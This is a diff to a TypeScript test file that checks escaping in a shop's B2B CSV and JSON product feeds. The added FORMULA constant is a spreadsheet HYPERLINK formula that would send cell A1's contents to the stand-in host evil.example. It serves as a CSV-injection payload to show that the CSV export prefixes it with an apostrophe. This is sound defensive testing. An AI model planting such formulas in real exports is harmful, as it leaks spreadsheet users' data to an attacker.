@@ -36,6 +36,8 @@ const NASTY = `A & B <b>"quoted" 'single'</b> ]]> \u0001\u0007 😀 čćžšđ �
 let nastyId = 0;
 /** The other company's quantity tiers: 35 % from 10 pieces of this product, 40 % from 50 of its brand. */
 const tiers = { productId: 0, brandId: 0, otherOfBrand: 0 };
+/** The nasty product's English name: what a spreadsheet would run as a formula. */
+const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klik")';
 const withoutControls = (text: string) => text.replaceAll("\u0001", "").replaceAll("\u0007", "");
 
 beforeAll(async () => {
@@ -61,7 +63,7 @@ beforeAll(async () => {
   nastyId = first?.id ?? 0;
   await database.db
     .update(products)
-    .set({ nameHr: NASTY, descriptionEn: NASTY, mpn: `MPN,"${NASTY}"` })
+    .set({ nameHr: NASTY, nameEn: FORMULA, descriptionEn: NASTY, mpn: `MPN,"${NASTY}"` })
     .where(eq(products.id, nastyId));
   api = createApi(database, testApiOptions());
   const logins = {
@@ -280,6 +282,13 @@ describe(`B2B feeds on ${testDatabaseKind}`, () => {
     const row = csv.find((r) => Number(r.id) === nastyId);
     expect(row?.name_hr).toBe(withoutControls(NASTY));
     expect(row?.mpn).toBe(withoutControls(`MPN,"${NASTY}"`));
+    // A name a spreadsheet would run as a formula is text there (OWASP: a `'` in front); JSON keeps it as it is.
+    expect(row?.name_en).toBe(`'${FORMULA}`);
+    expect(
+      productFeedSchema
+        .parse(await (await feed("products.json", key)).json())
+        .data.find((p) => p.id === nastyId)?.name_en,
+    ).toBe(FORMULA);
     expect(JSON.parse(row?.specifications ?? "")).toEqual(expect.any(Array));
   });
 
